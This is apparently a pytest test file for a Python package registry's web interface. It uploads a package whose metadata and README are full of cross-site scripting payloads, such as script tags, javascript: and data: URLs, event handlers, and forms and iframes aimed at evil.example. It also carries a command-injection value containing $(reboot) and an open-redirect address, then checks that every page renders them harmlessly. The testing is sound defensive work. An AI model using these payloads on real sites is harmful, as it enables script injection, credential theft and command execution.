"""What authors of packages write is shown, and does nothing."""

from urllib.parse import urlsplit

import pytest
from webtest import TestResponse

from pyregistry.namespaces.services.create import find
from tests.factories.distributions import wheel
from tests.factories.world import PASSWORD, World
from tests.functional.ui.browsing import signed_in, visit

OWN_FORMS = ("/-/", "/acme/")
SCRIPT = "<script>alert(1)</script>"
README = f"""# Title {SCRIPT}

<a href="javascript:alert(1)">link</a> [link](javascript:alert(1)) [data](data:text/html,x)
<img src=x onerror=alert(1)> <svg onload=alert(1)></svg> <iframe src="//evil.example"></iframe>
<form action="//evil.example"><input name=password></form> <base href="//evil.example/">
<div style="position:fixed;inset:0">cover</div> <meta http-equiv=refresh content="0;url=//evil">
<style>* {{ display: none }}</style> <object data=x></object> <math><mtext></mtext></math>
"""
HOSTILE = {
    "Summary": f"{SCRIPT}\"'><b>bold</b> \u202eright to left",
    "Keywords": f"{SCRIPT},<b>bold</b>",
    "Author": SCRIPT,
    "Author-email": '"<script>alert(1)</script>" <evil@example.org>, x <"><b>@example.org>',
    "Maintainer": "<img src=x onerror=alert(1)>",
    "License": f"{SCRIPT} " * 20,
    "Platform": SCRIPT,
    "Home-page": "javascript:alert(1)",
    "Download-URL": "JaVaScRiPt:alert(1)",
    "Requires-Dist": [
        'y; os_name == "<script>alert(1)</script>"',
        "z @ https://evil.example/$(reboot)",
    ],
    "Project-URL": [
        "Click, javascript:alert(1)",
        "Data, data:text/html;base64,PHNjcmlwdD4=",
        "Vb, vbscript:x",
        "File, file:///etc/passwd",
        "Quote, https://example.org/\"onmouseover='alert(1)",
        f"{SCRIPT[:20]}, https://example.org/",
        "Relative, //evil.example/",
        "Script, /-/logout",
    ],
}


def elements_that_act(page: TestResponse) -> list[str]:
    """What on a page could run, load or send something that is not the page's own."""
    found = []
    for element in page.html.find_all(True):
        attributes = element.attrs
        found += [
            name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")
        ]
        if element.name == "form" and attributes.get("action", "/-/").startswith(OWN_FORMS):
            continue  # the page's own, or one that is sent to its own address
        if element.name in ("iframe", "object", "embed", "base", "style", "math", "form", "meta"):
            found.append(element.name)
        if element.name == "script" and not attributes.get("src", "").startswith("/static/"):
            found.append("script")
        for name in ("href", "src", "action"):
            address = urlsplit(attributes.get(name, "").strip())
            if address.scheme not in ("", "http", "https", "mailto"):
                found.append(attributes[name])
            if not address.scheme and address.netloc:
                found.append(attributes[name])
    return found


@pytest.fixture
def pages(world: World) -> list[TestResponse]:
    """Every page that shows something of a hostile release."""
    world.project("acme/core", "public")
    distribution = wheel(
        "demo",
        metadata=HOSTILE,
        description=README,
        description_content_type="text/markdown",
    )
    world.upload("acme/core", distribution)
    with world.components.database.writing() as session:
        for path in ("acme", "acme/core"):
            find(session, path).description = f"{SCRIPT}<img src=x onerror=alert(1)>"
    world.user("root", is_admin=True, password=PASSWORD)
    signed_in(world, "root")
    return [
        visit(world, address)
        for address in (
            "/",
            "/acme/",
            "/acme/core/",
            "/acme/core/demo/",
            f"/acme/core/demo/1.0/-/files/{distribution.filename}/delete",
            "/acme/core/demo/-/delete",
            "/acme/core/demo/-/status",
            "/acme/core/demo/1.0/-/delete",
            "/acme/core/demo/1.0/-/yank",
            "/acme/core/demo/1.0/-/unyank",
            "/acme/core/demo/1.0/",
        )
    ]


def test_nothing_acts(pages: list[TestResponse]) -> None:
    for page in pages:
        allowed = ["meta"] * len(page.html.head.find_all("meta"))
        assert elements_that_act(page) == allowed, page.request.path


def test_what_was_written_is_shown_as_text(pages: list[TestResponse]) -> None:
    release = pages[-1].html
    assert SCRIPT in release.find(class_="lead").get_text()
    assert "javascript:alert(1)" in release.aside.get_text()
    assert SCRIPT in pages[0].html.main.get_text()


def test_commands_hold_what_was_written_as_one_word(pages: list[TestResponse]) -> None:
    commands = [code.get_text() for code in pages[-1].html.select("fieldset.tools code")]
    assert any("'z @ https://evil.example/$(reboot)'" in command for command in commands)
    for command in commands:
        for line in command.splitlines():
            assert "$(" not in line or "'z @" in line


def test_direction_marks_end_where_they_began(pages: list[TestResponse]) -> None:
    assert pages[-1].html.find(class_="lead").find("bdi")


def test_an_address_full_of_markup_is_refused_harmlessly(world: World) -> None:
    page = visit(world, "/%3Cscript%3Ealert(1)%3C/script%3E/", status=303).follow()
    assert SCRIPT not in page.text
    world.project("acme/core", "public")
    page = visit(world, "/acme/core/%3Cscript%3Ealert(1)%3C%2Fscript%3E/", status=404)
    assert "<script>alert" not in page.text
    # A page that redirects keeps the host, whatever the path looks like.
    location = visit(world, "//evil.example/..%2f", status=303).location
    assert location.startswith("http://localhost/")


@pytest.mark.parametrize("addresses", ["(" * 3000, "a:" * 3000])
def test_addresses_nested_without_end_are_shown_as_text(world: World, addresses: str) -> None:
    world.project("acme/core", "public")
    world.upload("acme/core", wheel("demo", metadata={"Author-email": addresses}))
    page = visit(world, "/acme/core/demo/")
    assert addresses in page.html.aside.get_text()
